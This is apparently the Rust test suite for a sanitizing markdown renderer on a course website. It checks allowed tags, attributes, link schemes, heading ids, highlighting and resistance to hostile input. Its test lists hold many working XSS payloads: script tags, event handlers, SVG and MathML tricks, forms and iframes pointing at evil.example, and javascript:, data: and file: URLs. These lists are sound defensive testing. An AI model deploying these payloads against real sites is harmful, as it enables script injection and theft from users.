// A test that cannot go on should panic.
#![allow(clippy::unwrap_used)]

use std::time::{Duration, Instant};

use super::{excerpt, render};

/// A start tag of the output, with its attributes.
#[derive(Debug)]
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

impl Tag {
    fn get(&self, name: &str) -> Option<&str> {
        let found = self.attributes.iter().find(|(key, _)| key == name);
        found.map(|(_, value)| value.as_str())
    }
}

/// Reads the output strictly: anything but tags with quoted attributes, text and entities fails the test.
fn tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find(['<', '>']) {
        assert!(rest[start..].starts_with('<'), "a bare > in {html}");
        rest = &rest[start + 1..];
        let name_end = rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '/').unwrap();
        let name = rest[..name_end].to_owned();
        assert!(!name.is_empty(), "a bare < in {html}");
        rest = &rest[name_end..];
        let mut attributes = Vec::new();
        while let Some(after) = rest.strip_prefix(' ') {
            let (key, after) = after.split_once("=\"").unwrap();
            let (value, after) = after.split_once('"').unwrap();
            assert!(!value.contains(['<', '>']), "a tag in an attribute in {html}");
            assert!(attributes.iter().all(|(other, _)| other != key), "{key} twice in {html}");
            attributes.push((key.to_owned(), unescape(value)));
            rest = after;
        }
        rest = rest.strip_prefix('>').unwrap_or_else(|| panic!("an odd tag in {html}"));
        if !name.starts_with('/') {
            tags.push(Tag { name, attributes });
        }
    }
    tags
}

fn unescape(value: &str) -> String {
    let value = value.replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">");
    value.replace("&nbsp;", "\u{a0}").replace("&amp;", "&")
}

#[track_caller]
fn assert_harmless(source: &str) -> String {
    const NAMES: &[&str] = &[
        "a",
        "b",
        "blockquote",
        "br",
        "code",
        "del",
        "details",
        "div",
        "em",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "section",
        "span",
        "strong",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    const ATTRIBUTES: &[&str] = &[
        "align",
        "alt",
        "aria-label",
        "checked",
        "class",
        "colspan",
        "disabled",
        "height",
        "href",
        "id",
        "lang",
        "loading",
        "open",
        "rel",
        "role",
        "rowspan",
        "scope",
        "src",
        "start",
        "tabindex",
        "title",
        "type",
        "width",
    ];
    let html = render(source);
    for tag in tags(&html) {
        assert!(NAMES.contains(&&*tag.name), "<{}> from {source}: {html}", tag.name);
        for (name, value) in &tag.attributes {
            assert!(ATTRIBUTES.contains(&&**name), "{name} from {source}: {html}");
            match name.as_str() {
                "href" => {
                    let known = ["http://", "https://", "mailto:", "#user-", "/"];
                    let lower = value.to_ascii_lowercase();
                    assert!(known.iter().any(|start| lower.starts_with(start)), "{value} from {source}");
                    assert!(!value.starts_with("//") && !value.starts_with("/\\"), "{value} from {source}");
                    assert!(!value.contains(['\t', '\n', '\r']), "{value} from {source}");
                }
                "src" => {
                    let own = value.starts_with('/') && !value.starts_with("//") && !value.contains('\\');
                    assert!(own || value.starts_with("https://"), "{value} from {source}");
                }
                "id" => assert!(value.starts_with("user-"), "{value} from {source}"),
                "type" => assert_eq!(value, "checkbox"),
                "class" => {
                    for class in value.split(' ') {
                        let ours =
                            ["hl-", "language-", "markdown-alert", "footnote", "task-list-", "contains-task-list"];
                        let ours = ours.iter().any(|start| class.starts_with(start)) || class == "table-scroll";
                        assert!(ours, "class {class} from {source}");
                    }
                }
                _ => {}
            }
        }
        assert_eq!(tag.name == "input", tag.get("disabled").is_some());
    }
    html
}

#[test]
fn nothing_that_runs_or_loads_survives() {
    for source in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script\n>alert(1)",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "x <img src=x onerror=alert(1)>",
        "<img src=\"https://a.example/b.png\" onload='alert(1)' style=\"position:fixed\">",
        "<img/src=/a/onerror=alert(1)>",
        "<img src=`javascript:alert(1)` alt=\"\"\"><script>alert(1)</script>\">",
        "<b onmouseover=alert(1)>b</b>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
        "<style>body { display: none }</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<iframe src=https://evil.example></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=https://evil.example></object>",
        "<embed src=https://evil.example>",
        "<base href=https://evil.example>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
        "<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>",
        "<textarea><script>alert(1)</script></textarea>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext>x<script>alert(1)</script>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
        "<a href=https://a.example target=_top ping=//evil.example download>x</a>",
        "<custom-element is=x onclick=alert(1)>x</custom-element>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "<p title='\"><script>alert(1)</script>'>x</p>",
        "<p title=\"<table><h1>\">x</p>",
        "<div><p><b>unclosed <a href=\"https://a.example",
        "</div></main></body></html><script>alert(1)</script>",
        "```\"><script>alert(1)</script>\nx\n```",
        "```rust\" onclick=\"alert(1)\nx\n```",
        "```rust\n</code></pre><script>alert(1)</script>\n```",
        "# x\" onclick=\"alert(1) <script>alert(1)</script>",
        "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x",
        "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
        "> [!NOTE] <script>alert(1)</script>\n> x",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
    ] {
        assert_harmless(source);
    }
}

#[test]
fn links_with_a_scheme_that_runs_are_dropped() {
    for target in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\u{1}javascript:alert(1)",
        "javascript&#58;alert(1)",
        "javascript&colon;alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "javas&Tab;cript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:image/svg+xml;base64,PHN2Zy8+",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "blob:https://a.example/x",
        "//evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/\t/evil.example",
        "https:evil.example",
        "x:y",
    ] {
        for source in [
            format!("[x]({target})"),
            format!("[x](<{target}>)"),
            format!("![x](<{target}>)"),
            format!("<a href=\"{target}\">x</a>"),
            format!("<img src=\"{target}\" alt=x>"),
            format!("<{target}>"),
            format!("[x]\n\n[x]: {target}"),
        ] {
            let html = assert_harmless(&source);
            for tag in tags(&html) {
                for url in [tag.get("href"), tag.get("src")].into_iter().flatten() {
                    // Encoded, a backslash or a tab is a part of a path like any other.
                    assert!(url.starts_with("/%"), "{url} from {source}");
                }
            }
        }
    }
}

#[test]
fn an_author_cannot_pose_as_the_page() {
    let html = assert_harmless(
        "<a id=main name=main href=#top>x</a> <p class=\"btn hl-x table-scroll markdown-alert\" role=alert data-x=1 \
         aria-label=x aria-hidden=true tabindex=1 slot=x part=x>x</p>",
    );
    let tags = tags(&html);
    assert_eq!((tags[1].get("id"), tags[1].get("href")), (Some("user-main"), Some("#user-top")), "{html}");
    let p = tags.iter().find(|tag| tag.get("class").is_some()).unwrap();
    assert_eq!(p.get("class"), Some("markdown-alert"));
    assert_eq!(p.attributes.len(), 1);
}

#[test]
fn headings_move_down_by_one_and_get_ids_of_their_own() {
    let html =
        assert_harmless("# One *two*\n\n## Über & <b>x</b>\n\n###### Six\n\n# One two\n\n# 🦀\n\n<h1>raw</h1>\n");
    assert!(html.contains("<h2 id=\"user-one-two\">One <em>two</em></h2>"), "{html}");
    assert!(html.contains("<h3 id=\"user-über-x\">"), "{html}");
    assert!(html.contains("<h6 id=\"user-six\">Six</h6>"), "{html}");
    assert!(html.contains("<h2 id=\"user-one-two-1\">"), "{html}");
    assert!(html.contains("<h2 id=\"user-section\">🦀</h2>"), "{html}");
    assert!(html.contains("<h2>raw</h2>"), "{html}");
}

#[test]
fn links_to_sites_mail_paths_and_places_of_the_text_are_kept() {
    let html = assert_harmless(
        "[a](https://a.example/?b=1&c=2) [b](/courses/x#y) [c](#part) <m@a.example> https://auto.example [d](b.md)",
    );
    let hrefs: Vec<String> = tags(&html).iter().filter_map(|tag| tag.get("href").map(str::to_owned)).collect();
    let expected =
        ["https://a.example/?b=1&c=2", "/courses/x#y", "#user-part", "mailto:m@a.example", "https://auto.example"];
    assert_eq!(hrefs, expected);
    assert!(tags(&html).iter().filter(|tag| tag.name == "a").all(|tag| tag.get("rel") == Some("noopener noreferrer")));
}

#[test]
fn a_link_to_a_heading_finds_it() {
    let html = render("[x](#part-one)\n\n# Part one\n");
    assert!(html.contains("href=\"#user-part-one\"") && html.contains("id=\"user-part-one\""), "{html}");
}

#[test]
fn images_load_lazily_and_only_over_https_or_from_this_site() {
    let html = assert_harmless(
        "![own](/media/1.png) ![far](https://a.example/b.png \"T\") ![near \"<x>\"](b.png) ![plain](http://a.example/b.png)",
    );
    let tags = tags(&html);
    let images: Vec<&Tag> = tags.iter().filter(|tag| tag.name == "img").collect();
    assert_eq!(images.len(), 2, "{html}");
    assert!(images.iter().all(|image| image.get("loading") == Some("lazy")));
    assert_eq!((images[1].get("alt"), images[1].get("title")), (Some("far"), Some("T")));
    assert!(html.contains("near &quot;&lt;x&gt;&quot; plain"), "{html}");
}

#[test]
fn tables_can_be_scrolled_by_keyboard() {
    let html =
        assert_harmless("| a | b |\n|---|--:|\n| 1 | 2 |\n\n<table><tr><td><table><tr><td>x</table></table>\n\nend");
    let wrapper = "<div class=\"table-scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table>";
    assert_eq!(html.matches(wrapper).count(), 2, "{html}");
    assert_eq!(html.matches("table-scroll").count(), 2, "nested tables scroll with the outer one: {html}");
    assert_eq!(html.matches("<div").count(), html.matches("</div>").count());
    assert!(html.contains("<td align=\"right\">2</td>"), "{html}");
}

#[test]
fn code_is_highlighted_with_classes() {
    let html = assert_harmless("```rust,ignore\nfn main() { let a = \"<b>\"; }\n```\n");
    assert!(html.starts_with("<pre tabindex=\"0\"><code><span class=\"hl-source hl-rust\">"), "{html}");
    assert!(html.contains("hl-storage") && html.contains("&lt;b&gt;"), "{html}");
    assert_eq!(html.matches("<span").count(), html.matches("</span>").count());
}

#[test]
fn the_languages_of_a_web_course_are_known() {
    for language in
        ["rust", "bash", "sh", "toml", "js", "javascript", "ts", "python", "sql", "html", "css", "json", "yaml"]
    {
        let html = assert_harmless(&format!("```{language}\na = 1\n```\n"));
        assert!(html.contains(&format!("<code class=\"language-{language}\"><span class=\"hl-")), "{html}");
    }
}

#[test]
fn toml_is_highlighted_whatever_it_holds() {
    let html = assert_harmless(
        "```toml\n[package] # <b>\nname = \"a \\\" # b\"\nx = { y = [1, 'z'], w = true }\nd = \"\"\"\n# no\n\"\"\"\n```\n",
    );
    for part in [
        "<span class=\"hl-entity hl-name hl-section\">[package] </span><span class=\"hl-comment\"># &lt;b&gt;</span>",
        "<span class=\"hl-entity hl-name hl-tag\">name</span>",
        "<span class=\"hl-string\">\"a \\\" # b\"</span>",
        "<span class=\"hl-entity hl-name hl-tag\">w</span>",
        "<span class=\"hl-constant\">true</span>",
        "<span class=\"hl-string\">\"\"\"\n# no\n\"\"\"</span>",
    ] {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert_harmless("```toml\n\"\n'''\n[\n=é\\\n```\n");
}

#[test]
fn code_in_an_unknown_language_or_none_stays_plain() {
    let html = assert_harmless("```klingon\na < b\n```\n");
    assert_eq!(html.trim(), "<pre tabindex=\"0\"><code class=\"language-klingon\">a &lt; b\n</code></pre>");
    let html = assert_harmless("    indented <b>\n");
    assert_eq!(html.trim(), "<pre tabindex=\"0\"><code>indented &lt;b&gt;\n</code></pre>");
}

#[test]
fn task_lists_become_disabled_checkboxes_with_a_label() {
    let html = assert_harmless("- [ ] open\n- [x] closed\n");
    let tags = tags(&html);
    let boxes: Vec<&Tag> = tags.iter().filter(|tag| tag.name == "input").collect();
    assert_eq!((boxes[0].get("aria-label"), boxes[0].get("checked")), (Some("To do"), None));
    assert_eq!((boxes[1].get("aria-label"), boxes[1].get("checked")), (Some("Done"), Some("")));
}

#[test]
fn footnotes_link_there_and_back() {
    let html = assert_harmless("Text[^n].\n\n[^n]: Note.\n");
    for part in ["href=\"#user-fn-n\"", "id=\"user-fn-n\"", "href=\"#user-fnref-n\"", "id=\"user-fnref-n\""] {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(html.contains("<section aria-label=\"Footnotes\" class=\"footnotes\">"), "{html}");
    assert!(html.contains("aria-label=\"Back to reference 1\""), "{html}");
}

#[test]
fn alerts_strikethrough_and_details_are_kept() {
    let html =
        assert_harmless("> [!WARNING]\n> ~~old~~\n\n<details open><summary>More</summary>\n\n*inside*\n\n</details>\n");
    assert!(html.contains("<div class=\"markdown-alert markdown-alert-warning\">"), "{html}");
    assert!(html.contains("<p class=\"markdown-alert-title\">Warning</p>"), "{html}");
    assert!(html.contains("<del>old</del>"), "{html}");
    assert!(html.contains("<details open=\"\"><summary>More</summary>"), "{html}");
    assert!(html.contains("<em>inside</em>"), "{html}");
}

#[test]
fn hostile_input_takes_bounded_time_and_stack() {
    let longest = super::LONGEST_SOURCE;
    for (name, source) in [
        ("quotes", ">".repeat(10_000)),
        ("a whole text of quotes", ">".repeat(longest)),
        ("brackets", "[".repeat(10_000)),
        ("emphasis", "*a ".repeat(50_000)),
        ("nested emphasis", format!("{}a{}", "*".repeat(20_001), "*".repeat(20_000))),
        ("one long line of code", format!("```rust\n{}\n```\n", "let a = (1 + ".repeat(40_000))),
        ("a long block of code", format!("```rust\n{}```\n", "let a = (1, \"b\");\n".repeat(5_500))),
        ("nested raw elements", "<div>".repeat(longest / 5)),
        ("nested formatting", "<b><p>".repeat(longest / 6)),
        ("equal headings", "# a\n".repeat(20_000)),
        ("a wide table", format!("{}\n{}\n{}", "|a".repeat(2_000), "|-".repeat(2_000), "|x\n".repeat(100_000))),
        ("too long", "a\n\n".repeat(longest)),
    ] {
        let start = Instant::now();
        // As small a stack as a thread of the server may have.
        let thread = std::thread::Builder::new().stack_size(512 << 10);
        let worker = thread.spawn(move || (render(&source), excerpt(&source, 160)));
        let (html, _) = worker.unwrap().join().unwrap();
        tags(&html);
        assert!(start.elapsed() < Duration::from_secs(20), "{name}: {:?}", start.elapsed());
    }
}

#[test]
fn what_cannot_be_rendered_is_shown_as_typed() {
    let html = render(&format!("{}<b>", ">".repeat(1_000)));
    assert!(html.starts_with("<pre tabindex=\"0\">&gt;&gt;"), "{html}");
    assert!(html.ends_with("&lt;b&gt;</pre>"), "{html}");
}

#[test]
fn an_excerpt_is_the_plain_text_of_the_first_paragraphs() {
    let source = "# Title\n\n![logo](/a.png)First *words*,\n`code` & <b>more</b>[^1].\n\n```rust\nfn main() {}\n```\n\n- A [link](/x).\n\n[^1]: Note.";
    assert_eq!(excerpt(source, 200), "First words, code & more. A link.");
}

#[test]
fn an_excerpt_is_cut_between_words() {
    assert_eq!(excerpt("one two three", 13), "one two three");
    assert_eq!(excerpt("one two three", 12), "one two…");
    assert_eq!(excerpt("one, two three", 6), "one…");
    assert_eq!(excerpt("ünïcödé", 4), "ünï…");
    assert_eq!(excerpt("x", 0), "");
    assert_eq!(excerpt("", 10), "");
}
